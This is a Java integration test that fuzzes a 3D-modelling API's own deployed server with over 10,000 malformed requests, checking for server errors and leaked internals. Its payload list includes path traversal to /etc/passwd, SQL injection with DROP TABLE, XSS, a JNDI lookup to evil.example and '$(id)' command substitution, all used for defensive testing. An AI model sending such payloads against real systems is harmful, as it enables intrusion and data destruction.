package io.genx3d.it;

import static io.genx3d.support.Api.bearer;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.genx3d.support.Api;
import io.genx3d.support.RawHttp;
import io.genx3d.support.Reply;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * 10,000+ generated malformed requests over raw sockets — broken and oversized Authorization headers, odd
 * encodings, wrong methods and content types, truncated, deeply nested and huge JSON, traversal and injection
 * strings in every path, query and body parameter — half of them with a valid key so they reach the code behind
 * authentication. No answer may be a 5xx; every application error must be the JSON envelope; no body may carry
 * a stack trace or a class name; and afterwards a valid request is answered normally. It prints the counts.
 *
 * It runs against the shared runnable jar, the shipped artifact with its Payara settings (server-config/), so the
 * rest of the suite runs on the server it fuzzed.
 * Payara's HTTP parser refuses some byte sequences before any application code runs (an invalid or overlong
 * percent-escape, a NUL, a path above the root, a header over 8 KiB): those answers are empty, are counted
 * apart as "container", and are still held to "no 5xx".
 */
class FuzzIT extends DeployedApiTest {

    private static final int REQUESTS = 10_400;
    private static final int THREADS = 4;
    private static final Pattern LEAK = Pattern.compile(
            "Exception|\\tat |\\bat [a-z]+\\.[a-z]|java\\.[a-z]+\\.|jakarta\\.[a-z]+\\.|org\\.(glassfish|eclipse|h2|postgresql|jboss)|io\\.genx3d");
    private static final String[] NASTY = {
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "' OR '1'='1",
        "1; DROP TABLE accounts;--",
        "\" OR \"\"=\"",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "#{7*7}",
        "{{7*7}}",
        "%00",
        "\u0000",
        "\u202e\u0041",
        "😀😀",
        "ﬀ",
        "-1",
        "0",
        "99999999999999999999999",
        "1e309",
        "NaN",
        "null",
        "true",
        "[]",
        "{}",
        "%",
        "%%",
        "%u0041",
        "\\",
        "\"",
        "'",
        "`",
        "|",
        "&&",
        "$(id)",
        " ",
        "\t",
        "\r\n",
        "sk-",
        "sk-" + "A".repeat(49),
        "key_",
        "mdl_",
        "acct_",
        "A".repeat(5000)
    };
    private static final String[] CONTENT_TYPES = {
        "application/json",
        "application/json; charset=UTF-8",
        "text/plain",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/json; charset=latin1",
        "application/json;;;",
        "*/*",
        ""
    };
    private static final String[] METHODS = {"GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"};
    private static final String[] ODD_PATH_BYTES = {
        "%c0%af", "%00", "%zz", "%ff%fe", "%2e%2e/%2e%2e/", "..%c0%af", "%e0%80%af"
    };

    private final Map<String, AtomicInteger> byStatus = new ConcurrentHashMap<>();
    private final Map<String, AtomicInteger> byKind = new ConcurrentHashMap<>();
    private final List<String> failures = Collections.synchronizedList(new ArrayList<>());
    private final AtomicInteger container = new AtomicInteger();

    private List<String> keys;
    private String modelId;
    private String keyId;
    private String accountId;
    private RawHttp raw;

    @Test
    void tenThousandMalformedRequestsNoServerErrorAlwaysTheEnvelopeNoLeaks() throws Exception {
        // Keys of several accounts, so that the valid half of the traffic stays within the plans' limits.
        keys = new ArrayList<>();
        Api.Session session = null;
        for (int i = 0; i < 12; i++) {
            session = api.newSession();
            keys.add(api.createKeyValue(session, "{\"name\":\"fuzz " + i + "\"}"));
        }
        String owner = keys.get(keys.size() - 1);
        modelId = api.post("/api/v1/models", "{\"name\":\"target\"}", bearer(owner))
                .json()
                .getString("id");
        Reply listed = api.get("/api/v1/keys", bearer(owner));
        keyId = listed.json().getJsonArray("data").getJsonObject(0).getString("id");
        accountId = api.get("/api/v1/sessions", "Cookie", session.cookie())
                .json()
                .getJsonObject("account")
                .getString("id");
        raw = new RawHttp("127.0.0.1", base.getPort());

        ExecutorService pool = Executors.newFixedThreadPool(THREADS);
        List<Future<?>> work = new ArrayList<>();
        for (int t = 0; t < THREADS; t++) {
            Random random = new Random(20261126L + t);
            work.add(pool.submit(() -> {
                for (int i = 0; i < REQUESTS / THREADS; i++) {
                    fire(random);
                }
                return null;
            }));
        }
        for (Future<?> done : work) {
            done.get();
        }
        pool.shutdown();

        int total = byStatus.values().stream().mapToInt(AtomicInteger::get).sum();
        System.out.printf(
                "FuzzIT: %d requests; by status %s; by kind %s; refused by Payara's HTTP parser before the "
                        + "application (empty answer): %d; failures: %d%n",
                total,
                new TreeMap<>(counts(byStatus)),
                new TreeMap<>(counts(byKind)),
                container.get(),
                failures.size());
        assertTrue(total >= 10_000, "sent " + total);
        assertEquals(List.of(), failures.stream().limit(20).toList(), failures.size() + " failures");
        // Afterwards the same server serves a new customer normally (the fuzzed model may well have been deleted).
        String fresh = api.createKeyValue(session, "{\"name\":\"after the fuzz\"}");
        Reply built = api.post("/api/v1/chat", "{\"message\":\"Create a cube\"}", bearer(fresh));
        assertEquals(200, built.status(), built.body());
        assertEquals(
                200,
                api.get("/api/v1/models/" + built.json().getJsonObject("model").getString("id"), bearer(fresh))
                        .status(),
                "still serving normally");
        assertEquals(200, api.get("/api/v1/ping").status());
    }

    private void fire(Random random) throws Exception {
        Request request = generate(random);
        RawHttp.Answer answer;
        try {
            answer = raw.send(request.bytes());
        } catch (java.io.IOException connectionProblem) {
            failures.add(
                    request.kind() + ": no answer (" + connectionProblem.getMessage() + ") to " + request.summary());
            return;
        }
        byStatus.computeIfAbsent(String.valueOf(answer.status()), s -> new AtomicInteger())
                .incrementAndGet();
        byKind.computeIfAbsent(request.kind(), s -> new AtomicInteger()).incrementAndGet();
        check(request, answer);
    }

    private void check(Request request, RawHttp.Answer answer) {
        String what = request.kind() + " " + request.summary() + " -> " + answer.status();
        if (answer.status() == 0 || answer.status() >= 500) {
            failures.add(what + " " + shorten(answer.body()));
            return;
        }
        if (LEAK.matcher(answer.body()).find()) {
            failures.add(what + " leaks internals: " + shorten(answer.body()));
        }
        boolean empty = answer.body().isEmpty() && answer.header("Content-Type") == null;
        if (empty && (answer.status() == 400 || answer.status() == 200) && parserRejects(request)) {
            container.incrementAndGet();
            return;
        }
        if (answer.status() >= 400 && !request.method().equals("HEAD")) {
            String type = answer.header("Content-Type");
            if (type == null || !type.startsWith("application/json") || !isEnvelope(answer.body())) {
                failures.add(what + " is not the envelope: " + type + " " + shorten(answer.body()));
            }
        }
    }

    /**
     * The requests Payara's HTTP parser refuses before the application sees them: an encoded NUL or backslash,
     * an invalid or overlong percent-escape, a path climbing above the root, or a header with a control or
     * non-ASCII byte. Only these may get its empty answer.
     */
    private static boolean parserRejects(Request request) {
        String head = new String(request.bytes(), StandardCharsets.ISO_8859_1);
        head = head.substring(0, Math.max(0, head.indexOf("\r\n\r\n")));
        String target = request.target().toLowerCase(java.util.Locale.ROOT);
        for (String pattern : List.of("%00", "%5c", "%c0", "%e0%80", "%zz", "%ff", "%2e%2e/")) {
            if (target.contains(pattern)) {
                return true;
            }
        }
        return head.chars().anyMatch(c -> c > 0x7E || c < 0x20 && c != '\r' && c != '\n' && c != '\t');
    }

    private static boolean isEnvelope(String body) {
        try {
            var error = Reply.parse(body).asJsonObject().getJsonObject("error");
            return error != null
                    && error.containsKey("code")
                    && error.containsKey("message")
                    && error.containsKey("details");
        } catch (RuntimeException notJson) {
            return false;
        }
    }

    // ---- the generator ----

    private record Request(String kind, String method, String target, byte[] bytes) {
        String summary() {
            return method + " " + (target.length() > 120 ? target.substring(0, 120) + "…" : target);
        }
    }

    private Request generate(Random random) {
        String[] endpoint = endpoint(random);
        String method = endpoint[0];
        String path = endpoint[1];
        String kind = pick(random, "method", "auth", "path", "query", "body", "content-type", "odd-bytes");
        Map<String, String> headers = new java.util.LinkedHashMap<>();
        headers.put("Host", "localhost");
        boolean valid = random.nextBoolean();
        // Each request comes from its own client address (through the trusted local proxy), so the guessing
        // limiter slows the broken keys without ever blocking the valid ones.
        headers.put(
                "X-Forwarded-For",
                valid
                        ? "10.99.0.1"
                        : "10." + random.nextInt(250) + "." + random.nextInt(250) + "." + (1 + random.nextInt(250)));
        if (valid) {
            headers.put("Authorization", "Bearer " + keys.get(random.nextInt(keys.size())));
        }
        String body = endpoint[2];
        String contentType = body == null ? null : "application/json";
        byte[] rawBody = null;
        switch (kind) {
            case "method" -> method = METHODS[random.nextInt(METHODS.length)];
            case "auth" -> brokenAuthorization(random, headers);
            case "path" ->
                path = path.replaceAll(
                                "\\{[a-z]+}", Matcher.quoteReplacement(encode(NASTY[random.nextInt(NASTY.length)])))
                        + (random.nextInt(4) == 0 ? "/" + encode(NASTY[random.nextInt(NASTY.length)]) : "");
            case "query" ->
                path = path + (path.contains("?") ? "&" : "?")
                        + pick(random, "limit", "cursor", "format", "email", "key_id", "from", "to") + "="
                        + encode(NASTY[random.nextInt(NASTY.length)]);
            case "body" -> {
                method = body == null ? "POST" : method;
                rawBody = brokenBody(random, endpoint[2]);
                contentType = "application/json";
            }
            case "content-type" -> contentType = CONTENT_TYPES[random.nextInt(CONTENT_TYPES.length)];
            case "odd-bytes" -> path = path + "/" + ODD_PATH_BYTES[random.nextInt(ODD_PATH_BYTES.length)];
            default -> throw new IllegalStateException(kind);
        }
        path = path.replace("{modelId}", modelId).replace("{keyId}", keyId).replace("{userId}", accountId);
        if (rawBody == null && body != null) {
            rawBody = body.getBytes(StandardCharsets.UTF_8);
        }
        if (contentType != null && !contentType.isEmpty()) {
            headers.put("Content-Type", contentType);
        }
        return new Request(kind, method, path, bytes(method, path, headers, rawBody));
    }

    private String[] endpoint(Random random) {
        String[][] all = {
            {"GET", "/api/v1/models", null},
            {"POST", "/api/v1/models", "{\"name\":\"fuzzed\",\"parts\":[{\"primitive\":\"cube\"}]}"},
            {"GET", "/api/v1/models/{modelId}", null},
            {"PATCH", "/api/v1/models/{modelId}", "{\"name\":\"renamed\"}"},
            {"PUT", "/api/v1/models/{modelId}", "{\"name\":\"replaced\",\"parts\":[]}"},
            {"DELETE", "/api/v1/models/{modelId}x", null},
            {"GET", "/api/v1/models/{modelId}/export?format=glb", null},
            {"POST", "/api/v1/chat", "{\"message\":\"Create a cube\"}"},
            {"GET", "/api/v1/keys", null},
            {"POST", "/api/v1/keys", "{\"name\":\"k\",\"level\":\"read_only\"}"},
            {"GET", "/api/v1/keys/{keyId}", null},
            {"DELETE", "/api/v1/keys/{keyId}x", null},
            {"GET", "/api/v1/usage", null},
            {"GET", "/api/v1/users", null},
            {"GET", "/api/v1/users/{userId}", null},
            {"PATCH", "/api/v1/users/{userId}", "{\"status\":\"active\"}"},
            {"GET", "/api/v1/users/{userId}/keys", null},
            {
                "POST",
                "/api/v1/accounts",
                "{\"email\":\"f@example.com\",\"password\":\"correct horse battery\",\"name\":\"F\"}"
            },
            {"POST", "/api/v1/sessions", "{\"email\":\"f@example.com\",\"password\":\"wrong password!\"}"},
            {"GET", "/api/v1/sessions", null},
            {"GET", "/api/v1/scopes", null},
            {"GET", "/api/v1/ping", null}
        };
        return all[random.nextInt(all.length)];
    }

    private void brokenAuthorization(Random random, Map<String, String> headers) {
        String key = keys.get(random.nextInt(keys.size()));
        headers.put(
                "X-Forwarded-For",
                "10." + random.nextInt(250) + "." + random.nextInt(250) + "." + (1 + random.nextInt(250)));
        headers.put(
                "Authorization",
                switch (random.nextInt(12)) {
                    case 0 -> "Bearer";
                    case 1 -> "Bearer ";
                    case 2 -> "Basic dXNlcjpwYXNzd29yZA==";
                    case 3 -> "Bearer " + key + "x";
                    case 4 -> "Bearer " + key.toUpperCase();
                    case 5 -> "Bearer " + key.substring(0, key.length() - 1);
                    case 6 -> "Bearer " + "sk-" + "Z".repeat(300 + random.nextInt(5000));
                    case 7 -> "Bearer\t" + key;
                    case 8 -> "Bearer " + NASTY[random.nextInt(NASTY.length)].replace("\r\n", " ");
                    case 9 -> "bearer  " + "sk-" + randomText(random, 49);
                    case 10 -> "Token " + key;
                    default -> "Bearer " + key + ", Bearer " + key;
                });
    }

    private static byte[] brokenBody(Random random, String valid) {
        String json = valid == null ? "{\"name\":\"x\"}" : valid;
        return switch (random.nextInt(10)) {
            case 0 -> json.substring(0, random.nextInt(json.length())).getBytes(StandardCharsets.UTF_8);
            case 1 ->
                ("[".repeat(1000 + random.nextInt(60_000)) + "]".repeat(random.nextInt(10)))
                        .getBytes(StandardCharsets.UTF_8);
            case 2 ->
                ("{\"name\":\"" + "x".repeat(1_100_000 + random.nextInt(400_000)) + "\"}")
                        .getBytes(StandardCharsets.UTF_8);
            case 3 ->
                new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'
                };
            case 4 ->
                json.replaceFirst(":\\s*\"[^\"]*\"", Matcher.quoteReplacement(":" + pickValue(random)))
                        .getBytes(StandardCharsets.UTF_8);
            case 5 ->
                json.replaceFirst(
                                ":\\s*\"[^\"]*\"",
                                Matcher.quoteReplacement(":\""
                                        + NASTY[random.nextInt(NASTY.length)]
                                                .replace("\\", "\\\\")
                                                .replace("\"", "\\\"")
                                                .replace("\u0000", "\\u0000")
                                                .replace("\r\n", "\\r\\n")
                                                .replace("\t", "\\t")
                                        + "\""))
                        .getBytes(StandardCharsets.UTF_8);
            case 6 -> ("\uFEFF" + json).getBytes(StandardCharsets.UTF_8);
            case 7 ->
                json.replaceFirst("\\{", "{\"unknown_field\":1,\"name\":\"dup\",")
                        .getBytes(StandardCharsets.UTF_8);
            case 8 -> ("{\"a\":".repeat(5000) + "1" + "}".repeat(5000)).getBytes(StandardCharsets.UTF_8);
            default -> new byte[0];
        };
    }

    private static String pickValue(Random random) {
        return pick(
                random,
                "1",
                "-1",
                "1e309",
                "true",
                "null",
                "[]",
                "{}",
                "[1,2,3]",
                "{\"$ne\":null}",
                "99999999999999999999999999");
    }

    private static byte[] bytes(String method, String path, Map<String, String> headers, byte[] body) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        StringBuilder head = new StringBuilder(method).append(' ').append(path).append(" HTTP/1.1\r\n");
        headers.forEach(
                (name, value) -> head.append(name).append(": ").append(value).append("\r\n"));
        if (body != null) {
            head.append("Content-Length: ").append(body.length).append("\r\n");
        }
        head.append("Connection: close\r\n\r\n");
        out.writeBytes(head.toString().getBytes(StandardCharsets.UTF_8));
        if (body != null) {
            out.writeBytes(body);
        }
        return out.toByteArray();
    }

    private static String encode(String text) {
        return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String randomText(Random random, int length) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.append(alphabet.charAt(random.nextInt(alphabet.length())));
        }
        return text.toString();
    }

    private static String pick(Random random, String... choices) {
        return choices[random.nextInt(choices.length)];
    }

    private static Map<String, Integer> counts(Map<String, AtomicInteger> counters) {
        Map<String, Integer> plain = new TreeMap<>();
        counters.forEach((name, count) -> plain.put(name, count.get()));
        return plain;
    }

    private static String shorten(String text) {
        return text.length() > 200 ? text.substring(0, 200) + "…" : text;
    }
}
